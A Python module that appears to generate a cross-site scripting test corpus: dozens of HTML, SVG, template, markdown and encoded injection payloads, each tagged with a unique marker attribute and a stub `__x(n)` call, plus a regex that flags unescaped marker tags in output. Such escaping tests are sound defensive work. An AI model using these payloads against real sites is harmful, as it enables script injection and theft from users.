"""Words that would become a script, a style or a request, if a page, a mail or a program took them for its own.

Each carries a mark of its own as the name of an attribute: a browser that made an element of it has that attribute.
"""

import re

# ~ becomes the mark, ! what would run, ^ an address that nobody may ask for, and RLO a sign that turns the reading.
_PATTERNS = r"""
<script ~>!</script>
<script ~ src=^></script>
<img ~ src=x onerror=!>
<img/~/src=x/onerror=!>
<svg/~/onload=!>
<svg ~><script>!</script></svg>
<svg ~><animate onbegin=! attributeName=x dur=1s>
<svg ~><a xlink:href="javascript:!"><text>k</text></a></svg>
<svg ~><foreignObject><iframe src="javascript:!">
<svg ~><use href="data:image/svg+xml,<svg onload=!>">
<body ~ onload=!>
<iframe ~ src="javascript:!">
<iframe ~ srcdoc="<script>parent.!</script>">
<object ~ data="data:text/html,<script>!</script>">
<embed ~ src="javascript:!">
<a ~ href="javascript:!">k</a>
<a ~ href="JaVaScRiPt&colon;!">k</a>
<a ~ href=" &#1; java&Tab;script:!">k</a>
<a ~ href="data:text/html,<script>!</script>">k</a>
<form ~ action="javascript:!"><button>k</button></form>
<button ~ formaction="javascript:!">k</button>
<base ~ href="^">
<meta ~ http-equiv=refresh content="0;url=^">
<meta ~ http-equiv=refresh content="0;url=javascript:!">
<link ~ rel=stylesheet href=^>
<style ~>@import"^";</style>
<style ~>*{background:url(^)}</style>
<div ~ style="background:url(^)">
<video ~ src=x onerror=!>
<video ~><source onerror=!></video>
<audio ~ src=x onerror=!>
<details ~ open ontoggle=!>
<input ~ autofocus onfocus=!>
<select ~ autofocus onfocus=!>
<textarea ~ autofocus onfocus=!>
<marquee ~ onstart=!>
<x ~ onclick=! onpointerrawupdate=!>
<div ~ hx-get="^" hx-trigger=load>
<div ~ hx-on:load=!>
<math ~><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=!>">
<noscript ~><p title="</noscript><img src=x onerror=!>">
<template ~><script>!</script></template>
<scr<script>ipt ~>!</scr</script>ipt>
<<img ~ src=x onerror=!//
<img ~ src=x onerror='!'
" ~ onmouseover=! autofocus onfocus=! x="
' ~ onmouseover=! autofocus onfocus=! x='
"><script ~>!</script>
'><img ~ src=x onerror=!>
</title><script ~>!</script>
</textarea><script ~>!</script>
</style><script ~>!</script>
</script><script ~>!</script>
--><script ~>!</script><!--
]]><script ~>!</script>
{{ ~ }}{% debug %}<script ~>!</script>
{{constructor.constructor("!")()}} <b ~>
${!} #{!} <%= ! %> <b ~>
[k](javascript:!) <b ~>
![k](^) <b ~>
&lt;script ~&gt;!&lt;/script&gt;
&#60;img ~ src=x onerror=!&#62;
&amp;lt;img ~ src=x onerror=!&amp;gt;
＜script ~＞!＜/script＞
%3Cscript ~%3E!%3C/script%3E
\u003cscript ~\u003e!\u003c/script\u003e
RLO<img ~ src=x onerror=!>
"<img/~/src=x/onerror=!>"@x.example
https://x.example/?"><svg/~/onload=!>
https://x.example/#'><img/~/src=x/onerror=!>
<b ~>
"~="
"""
NOBODY = "nobody.invalid"  # The host that nobody may ask for.
MARK = re.compile(r"vbx\d+")
# A tag, or the end of a value, as no page of ours has it unless words of somebody became part of it.
RAW = re.compile(r"<[a-z!?/][^<>\s\"'=&;]*[\s/]+vbx\d+", re.IGNORECASE)


def payload(number: int, pattern: str) -> str:
    filled = pattern.replace("~", f"vbx{number}").replace("^", f"//{NOBODY}/{number}").replace("RLO", "\u202e")
    return re.sub(r"!(?!\[|--)", f"__x({number})", filled)  # Not in ![…](…) and <!--.


PAYLOADS = [payload(number, pattern) for number, pattern in enumerate(_PATTERNS.strip().splitlines(), 1)]
